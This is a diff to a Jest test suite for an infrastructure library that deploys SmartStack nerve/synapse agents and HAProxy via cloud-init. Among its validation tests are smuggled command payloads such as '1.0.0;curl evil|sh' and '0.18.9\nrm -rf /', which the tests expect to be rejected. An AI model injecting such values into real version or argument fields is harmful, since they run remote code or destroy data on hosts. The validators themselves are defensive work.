@@ -7,6 +7,7 @@ import { parseNerveConfig } from '../lib/schema/nerve-config-loader';
 import { parseSynapseConfig } from '../lib/schema/synapse-config-loader';
 import { SynapseConfig } from '../lib/schema/synapse-config';
 import { buildArticleTopology } from '../examples/smartstack-topology';
+import { agentsPackage } from '../lib/cloud-init/agents-package';
 import { fileContent, writtenFiles } from './support/cloud-config-files';
 import { meshFixture, thrownMessage } from './support/sidecar-fixtures';
 
@@ -34,7 +35,7 @@ describe('HaproxySidecar on the article topology', () => {
   test('a provider host gets nerve, its config, a user, the pinned agents and a firewall rule; no HAProxy', () => {
     const { app1 } = article();
     const { doc, text } = userData(app1);
-    expect(doc.packages).toEqual(['nftables', 'nodejs', 'npm']);
+    expect(doc.packages).toEqual(['nftables', 'nodejs']);
     const files = writtenFiles(text);
     expect([...files.keys()].filter((p) => /nerve|synapse|haproxy|firewall|nftables/.test(p))).toEqual([
       '/etc/smartstack/nerve.conf.json',
@@ -63,10 +64,14 @@ describe('HaproxySidecar on the article topology', () => {
     const unit = fileContent(text, '/etc/systemd/system/smartstack-nerve.service');
     expect(unit).toContain('ExecStart=/usr/local/bin/smartstack nerve --config /etc/smartstack/nerve.conf.json');
     expect(unit).toContain('User=nerve');
-    expect(doc.runcmd).toEqual(expect.arrayContaining([
-      ['sh', '-c', expect.stringContaining('useradd --system --user-group --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin nerve')],
-      ['sh', '-c', `npm ls -g --depth=0 cdktf-smartstack@${VERSION} >/dev/null 2>&1 || npm install -g --no-fund --no-audit cdktf-smartstack@${VERSION}`],
-    ]));
+    const steps = fileContent(text, '/usr/lib/smartstack/host-steps.sh');
+    expect(steps).toContain('useradd --system --user-group --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin nerve');
+    // The agents come with the delivery: the archive of this very package, by checksum, no npm.
+    const { sha256 } = agentsPackage();
+    expect(steps).toContain(`begin 'agents'\\'' package cdktf-smartstack ${VERSION}'`);
+    expect(steps).toContain(`archive=/var/lib/smartstack/agents/${sha256}.tgz`);
+    expect(steps).not.toContain('npm install');
+    expect(doc.runcmd).toEqual([['sh', '/usr/lib/smartstack/host-steps.sh']]);
     // Open to the consumer (web1, whose sidecar came later), not to the whole network.
     expect(fileContent(text, '/etc/smartstack/nftables.nft')).toContain(
       'tcp dport { 8080 } ip saddr { 10.10.0.30/32 } accept comment "smartstack user-service provided"',
@@ -120,7 +125,7 @@ describe('HaproxySidecar on the article topology', () => {
   test('a consumer host gets synapse, a bootstrap haproxy.cfg, HAProxy in master-worker mode and no open port', () => {
     const { web1 } = article();
     const { doc, text } = userData(web1);
-    expect(doc.packages).toEqual(['haproxy', 'nodejs', 'npm', 'socat']);
+    expect(doc.packages).toEqual(['haproxy', 'nodejs', 'socat']);
     const synapse = JSON.parse(fileContent(text, '/etc/smartstack/synapse.conf.json')) as SynapseConfig;
     expect(synapse.services['user-service'].haproxy).toMatchObject({ port: 3210, bind_address: '127.0.0.1' });
     expect(synapse.services['user-service'].discovery.hosts).toEqual(['10.10.0.11:2181', '10.10.0.12:2181', '10.10.0.13:2181']);
@@ -141,10 +146,12 @@ describe('HaproxySidecar on the article topology', () => {
     );
 
     // HAProxy is reloaded (or started), never restarted by an apply; synapse is restarted.
-    const restart = doc.runcmd.find((c: string[]) => c[1] === 'restart');
-    expect(restart).toEqual(['systemctl', 'restart', 'smartstack-synapse.service']);
-    expect(doc.runcmd).toContainEqual(['systemctl', 'reload-or-restart', 'smartstack-haproxy.service']);
-    expect(doc.runcmd).toContainEqual(['install', '-d', '-o', 'synapse', '-g', 'haproxy', '-m', '0750', '/var/lib/smartstack/haproxy']);
+    const steps = fileContent(text, '/usr/lib/smartstack/host-steps.sh');
+    expect(steps.match(/^run systemctl restart .*$/gm)).toEqual(['run systemctl restart smartstack-synapse.service']);
+    expect(steps).toContain("run 'systemctl' 'reload-or-restart' 'smartstack-haproxy.service'");
+    expect(steps).toContain("run 'install' '-d' '-o' 'synapse' '-g' 'haproxy' '-m' '0750' '/var/lib/smartstack/haproxy'");
+    // Every unit, HAProxy's too, must be active for the apply to succeed.
+    expect(steps).toContain('units_active smartstack-haproxy.service smartstack-synapse.service');
     // Everything it listens on is on 127.0.0.1: no firewall rule needed.
     expect(writtenFiles(text).has('/etc/smartstack/nftables.nft')).toBe(false);
   });
@@ -199,14 +206,55 @@ describe('HaproxySidecar options', () => {
     const { doc, text } = userData(both);
     expect(doc.packages).toEqual(expect.arrayContaining(['ruby', 'ruby-dev', 'build-essential', 'haproxy']));
     expect(doc.packages).not.toContain('nodejs');
-    expect(doc.runcmd).toEqual(expect.arrayContaining([
-      ['sh', '-c', 'gem list -i -e nerve -v 0.9.7 >/dev/null || gem install --no-document nerve -v 0.9.7'],
-      ['sh', '-c', 'gem list -i -e synapse -v 0.18.9 >/dev/null || gem install --no-document synapse -v 0.18.9'],
-    ]));
+    const steps = fileContent(text, '/usr/lib/smartstack/host-steps.sh');
+    expect(steps).toContain("run 'sh' '-c' 'gem list -i -e nerve -v 0.9.7 >/dev/null || gem install --no-document nerve -v 0.9.7'");
+    expect(steps).toContain("run 'sh' '-c' 'gem list -i -e synapse -v 0.18.9 >/dev/null || gem install --no-document synapse -v 0.18.9'");
     expect(fileContent(text, '/etc/systemd/system/smartstack-nerve.service')).toContain('ExecStart=/usr/local/bin/nerve --config /etc/smartstack/nerve.conf.json');
     expect(fileContent(text, '/etc/systemd/system/smartstack-synapse.service')).toContain('ExecStart=/usr/local/bin/synapse --config /etc/smartstack/synapse.conf.json');
     expect(JSON.parse(fileContent(text, '/etc/smartstack/nerve.conf.json'))).not.toHaveProperty('metrics_port');
     expect(JSON.parse(fileContent(text, '/etc/smartstack/synapse.conf.json'))).not.toHaveProperty('metrics_port');
+  });
+
+  test('the agents travel with the delivery: uploaded from the stack, checked by checksum, a trigger of the host', () => {
+    const { app1, web1, stack } = article();
+    const synthesized = JSON.parse(Testing.synth(stack));
+    const { sha256, version } = agentsPackage();
+    const asset = Object.keys(synthesized).length > 0 && JSON.stringify(synthesized);
+    for (const host of [app1, web1]) {
+      const resource = synthesized.resource.null_resource[Object.keys(synthesized.resource.null_resource).find((k) => k.startsWith(`${host.hostname}_cloud-init`))!];
+      expect(resource.triggers.agents_sha256).toBe(sha256);
+      const uploads = resource.provisioner.filter((p: any) => p.file?.source);
+      expect(uploads).toEqual([{ file: { source: expect.stringMatching(new RegExp(`^assets/.+/cdktf-smartstack-agents-${version}\\.tgz$`)), destination: `/tmp/smartstack-${host.hostname}/agents.tgz` } }]);
+      // The upload comes before the apply script runs.
+      expect(Object.keys(resource.provisioner[resource.provisioner.length - 1])).toEqual(['remote-exec']);
+      expect(host.renderApplyScript()).toContain(`= ${sha256} ] || fail`);
+    }
+    expect(asset).not.toContain('"npm"');
+  });
+
+  test('agents from an npm registry of the user: npm on the host, no upload; another version needs a registry', () => {
+    const f = meshFixture();
+    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
+    const app1 = f.host('app1', 55);
+    new HaproxySidecar(app1, 'sidecar', { provides: [users], runtime: AgentRuntime.node({ npmRegistry: 'https://npm.example.org/', version: '0.2.0' }) });
+    const { doc, text } = userData(app1);
+    expect(doc.packages).toEqual(['nftables', 'nodejs', 'npm']);
+    expect(fileContent(text, '/usr/lib/smartstack/host-steps.sh')).toContain(
+      'npm install -g --no-fund --no-audit --legacy-peer-deps --registry https://npm.example.org/ cdktf-smartstack@0.2.0',
+    );
+    expect(app1.renderApplyScript()).not.toContain('agents.tgz');
+    expect(thrownMessage(() => AgentRuntime.node({ version: '0.0.9' }))).toBe(
+      `AgentRuntime.node: version = "0.0.9": the uploaded agents are this package's own version ${VERSION}; to install another version, publish it and set npmRegistry`,
+    );
+    expect(thrownMessage(() => AgentRuntime.node({ npmRegistry: 'https://npm.example.org', version: '1.0.0;curl evil|sh' }))).toContain('AgentRuntime.node: version = "1.0.0;curl evil|sh": expected');
+    expect(thrownMessage(() => AgentRuntime.node({ npmRegistry: 'https://x.org/ --unsafe-perm' }))).toContain('AgentRuntime.node: npmRegistry = "https://x.org/ --unsafe-perm": expected');
+  });
+
+  test("a consumer host stops and disables Debian's own haproxy.service before starting the sidecar's", () => {
+    const { web1 } = article();
+    const steps = fileContent(web1.renderUserData(), '/usr/lib/smartstack/host-steps.sh');
+    expect(steps).toContain('run systemctl disable --now haproxy.service');
+    expect(steps.indexOf('disable --now haproxy.service')).toBeLessThan(steps.indexOf("'systemctl' 'reload-or-restart' 'smartstack-haproxy.service'"));
   });
 
   test('a per-host port and weight override the service for that host only', () => {
@@ -262,7 +310,6 @@ describe('HaproxySidecar validation', () => {
     ['an override weight of 257', (s) => ({ provides: [s.users], providerOverrides: [{ service: s.users, weight: 257 }] }), 'providerOverrides[0].weight', '257'],
     ['a stats port of 0', (s) => ({ consumes: [s.users], statsPort: 0 }), 'statsPort', '0'],
     ['maxConnections of 0', (s) => ({ consumes: [s.users], maxConnections: 0 }), 'maxConnections', '0'],
-    ['a Node agent version with ;', (s) => ({ provides: [s.users], runtime: AgentRuntime.node({ version: '1.0.0;curl evil|sh' }) }), 'runtime.nerveVersion', '"1.0.0;curl evil|sh"'],
     ['a gem version with a newline', (s) => ({ consumes: [s.users], runtime: AgentRuntime.ruby({ synapseVersion: '0.18.9\nrm -rf /' }) }), 'runtime.synapseVersion', '"0.18.9\\nrm -rf /"'],
     ['a stats port equal to a local port', (s) => ({ consumes: [s.users], statsPort: 3210 }), 'statsPort', '3210'],
     ['a local port equal to a provided port', (s) => ({ provides: [s.internal], consumes: [s.users], providerOverrides: [{ service: s.internal, port: 3210 }] }), 'consumes[user-service].localPort', '3210'],
